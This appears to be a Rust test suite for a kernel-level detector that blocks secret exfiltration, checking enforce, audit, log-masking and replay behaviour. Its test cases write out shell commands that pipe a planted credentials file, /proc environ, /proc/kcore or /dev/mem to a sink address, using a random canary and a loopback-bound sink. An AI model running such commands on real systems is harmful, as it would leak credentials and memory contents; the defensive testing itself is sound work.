//! The cases.

use anyhow::{Context as _, bail, ensure};
use detector::kernel::{Flags, LayoutSource, Sensor, Tracing};
use serde_json::Value;
use std::{
    fs,
    io::Read as _,
    net::TcpListener,
    path::Path,
    process::{Command, Output},
    time::{Duration, Instant},
};

type Case = fn() -> anyhow::Result<()>;

/// Name and function of each, in order.
pub(super) const CASES: &[(&str, Case)] = &[
    ("load-all-off", || load(Flags::AllOff, Tracing::Typed)),
    ("load-all-on", || load(Flags::AllOn, Tracing::Typed)),
    ("load-detected", || load(Flags::Detected, Tracing::Typed)),
    ("load-events", events),
    ("pipe-theft", || stopped("cat $SECRET | $GUEST send $SINK")),
    ("pipe-honest", || passed("cat $PLAIN | $GUEST send $SINK")),
    ("file-theft", || stopped("cat $SECRET > $STAGE; mv $STAGE $STAGE.2; $GUEST send $SINK < $STAGE.2")),
    ("file-honest", || passed("cat $PLAIN > $STAGE; mv $STAGE $STAGE.2; $GUEST send $SINK < $STAGE.2")),
    ("old-connection-theft", || stopped("$GUEST old $SINK $SECRET")),
    ("old-connection-honest", || passed("$GUEST old $SINK $PLAIN")),
    ("inherited-connection-theft", || stopped("$GUEST share $SINK $SECRET")),
    ("inherited-connection-honest", || passed("$GUEST share $SINK $PLAIN")),
    ("environ-theft", || stopped("cat /proc/$AGENT/environ | $GUEST send $SINK")),
    ("kcore-theft", || stopped("head -c 4096 /proc/kcore | $GUEST send $SINK")),
    ("memory-device-theft", || stopped("dd if=/dev/mem bs=4096 count=1 | $GUEST send $SINK")),
    ("devices-honest", || passed("ls -l /proc/kcore /dev/mem; cat $PLAIN | $GUEST send $SINK")),
    ("log-theft", || masked("echo begun; cat $SECRET $SECRET $SECRET $SECRET $SECRET | base64 -w 0; echo; echo ended")),
    ("log-honest", || {
        printed("cat $PLAIN $PLAIN $PLAIN $PLAIN $PLAIN $PLAIN $PLAIN $PLAIN $PLAIN | base64 -w 0; echo ended")
    }),
    ("audit", audited),
    ("busy-theft", || stopped(&format!("{BUSY}; cat $SECRET | $GUEST send $SINK; wait"))),
    ("busy-honest", || passed(&format!("{BUSY}; cat $PLAIN | $GUEST send $SINK; wait"))),
];

/// Not loopback by its address, and of this machine all the same.
const SINK: &str = "203.0.113.9";

/// More processes at once than there are processors, so that each is preempted wherever it can be: nothing of any is missed.
const BUSY: &str =
    "for j in 1 2 3 4; do (i=0; while [ $i -lt 25 ]; do cat $PLAIN | cat > /dev/null; i=$((i+1)); done) & done";

/// Loaded and attached, everything.
fn load(flags: Flags, tracing: Tracing) -> anyhow::Result<()> {
    let mut sensor = Sensor::load(&LayoutSource::new(None), flags, tracing)?;
    sensor.attach(None)?;
    Ok(())
}

/// As the programs of trace events, too, which ask for what 5.10 does not have (`bpf_task_pt_regs`, 5.15).
fn events() -> anyhow::Result<()> {
    let release = fs::read_to_string("/proc/sys/kernel/osrelease")?;
    match load(Flags::Detected, Tracing::Events) {
        Err(error) if release.starts_with("5.10.") => {
            ensure!(error.to_string().contains("refused program"), "{error}");
            Ok(())
        }
        loaded => loaded,
    }
}

/// In enforce: a finding, exit 100, nothing at the sink, and replay says the same.
fn stopped(script: &str) -> anyhow::Result<()> {
    let run = Run::new(script, "enforce")?;
    run.verdict("FAIL", 100)?;
    ensure!(run.arrived.is_empty(), "{} bytes reached the sink", run.arrived.len());
    run.replays()
}

/// The same acts without a secret: nothing found, everything arrives.
fn passed(script: &str) -> anyhow::Result<()> {
    let run = Run::new(script, "enforce")?;
    run.verdict("PASS", 0)?;
    ensure!(run.arrived == PLAIN, "the sink got {:?}", String::from_utf8_lossy(&run.arrived));
    run.replays()
}

/// In enforce: a block that a holder prints is masked, and all else is printed.
fn masked(script: &str) -> anyhow::Result<()> {
    let run = Run::new(script, "enforce")?;
    run.verdict("FAIL", 100)?;
    let text = String::from_utf8_lossy(&run.output.stdout);
    ensure!(text == "begun\n***\nended\n", "{} bytes in the log", text.len());
    run.replays()
}

/// The same block by somebody who holds nothing.
fn printed(script: &str) -> anyhow::Result<()> {
    let run = Run::new(script, "enforce")?;
    run.verdict("PASS", 0)?;
    let text = String::from_utf8_lossy(&run.output.stdout);
    ensure!(text.len() > 160 && text.ends_with("ended\n") && !text.contains('*'), "the log has {text:?}");
    run.replays()
}

/// In audit everything arrives, and is found.
fn audited() -> anyhow::Result<()> {
    let run = Run::new("cat $SECRET | $GUEST send $SINK", "audit")?;
    run.verdict("FAIL", 0)?;
    ensure!(run.arrived.starts_with(b"canary-"), "the sink got {} bytes", run.arrived.len());
    run.replays()
}

const PLAIN: &[u8] = b"nothing secret\n";

/// One run under watch.
struct Run {
    output: Output,
    arrived: Vec<u8>,
    report: Value,
    directory: tempfile::TempDir,
}

impl Run {
    fn new(script: &str, mode: &str) -> anyhow::Result<Self> {
        address()?;
        let directory = tempfile::tempdir()?;
        let path = |name: &str| directory.path().join(name);
        let secret = path(".aws/credentials");
        fs::create_dir_all(path(".aws"))?;
        fs::write(&secret, canary()?)?;
        fs::write(path("plain"), PLAIN)?;
        let sink = TcpListener::bind((SINK, 0)).context("the sink's address")?;
        let output = Command::new("/proc/self/exe")
            .args(["run", "--mode", mode, "--record"])
            .arg(path("recording.jsonl"))
            .arg(format!("--report=json={}", path("report.json").display()))
            .args(["--", "/bin/sh", "-c", script])
            .env("SECRET", &secret)
            .env("PLAIN", path("plain"))
            .env("STAGE", path("stage"))
            .env("AGENT", std::process::id().to_string())
            .env("SINK", sink.local_addr()?.to_string())
            .env("GUEST", std::env::current_exe()?)
            .output()?;
        let arrived = arrived(&sink)?;
        let report = fs::read(path("report.json")).ok().and_then(|text| serde_json::from_slice(&text).ok());
        let Some(report) = report else { bail!("no report; {}", said(&output)) };
        Ok(Self { output, arrived, report, directory })
    }

    fn verdict(&self, verdict: &str, code: i32) -> anyhow::Result<()> {
        let got = self.report["verdict"].as_str().unwrap_or_default();
        ensure!(got == verdict, "verdict {got}: {}; {}", self.report["reasons"], said(&self.output));
        ensure!(self.output.status.code() == Some(code), "exit {}; {}", self.output.status, said(&self.output));
        Ok(())
    }

    fn replays(&self) -> anyhow::Result<()> {
        let output = Command::new("/proc/self/exe")
            .args(["replay", "--report", "json"])
            .arg(self.directory.path().join("recording.jsonl"))
            .output()?;
        let live = fs::read(self.directory.path().join("report.json"))?;
        ensure!(output.stdout == live, "replay says something else; {}", said(&output));
        Ok(())
    }
}

/// What reached the sink once nothing more can: every connection has ended, or is quarantined and silent.
fn arrived(sink: &TcpListener) -> anyhow::Result<Vec<u8>> {
    let silence = Duration::from_millis(500);
    let deadline = Instant::now() + Duration::from_secs(10);
    let mut bytes = Vec::new();
    sink.set_nonblocking(true)?;
    while let Ok((mut stream, _)) = sink.accept() {
        stream.set_nonblocking(false)?;
        stream.set_read_timeout(Some(silence))?;
        let mut buffer = [0; 4096];
        while let Ok(n @ 1..) = stream.read(&mut buffer) {
            bytes.extend_from_slice(&buffer[..n]);
            ensure!(Instant::now() < deadline, "the sink's connection never ends");
        }
    }
    Ok(bytes)
}

/// Gives loopback the sink's address, once.
fn address() -> anyhow::Result<()> {
    let known = Command::new("ip").args(["addr", "show", "dev", "lo"]).output()?;
    if !String::from_utf8_lossy(&known.stdout).contains(SINK) {
        let status = Command::new("ip").args(["addr", "add", &format!("{SINK}/32"), "dev", "lo"]).status()?;
        ensure!(status.success(), "loopback does not take the sink's address");
    }
    Ok(())
}

fn canary() -> anyhow::Result<String> {
    let mut bytes = [0; 16];
    fs::File::open(Path::new("/dev/urandom"))?.read_exact(&mut bytes)?;
    Ok(format!("canary-{}\n", bytes.iter().map(|byte| format!("{byte:02x}")).collect::<String>()))
}

fn said(output: &Output) -> String {
    format!("{} said: {}", output.status, String::from_utf8_lossy(&output.stderr).trim_end())
}
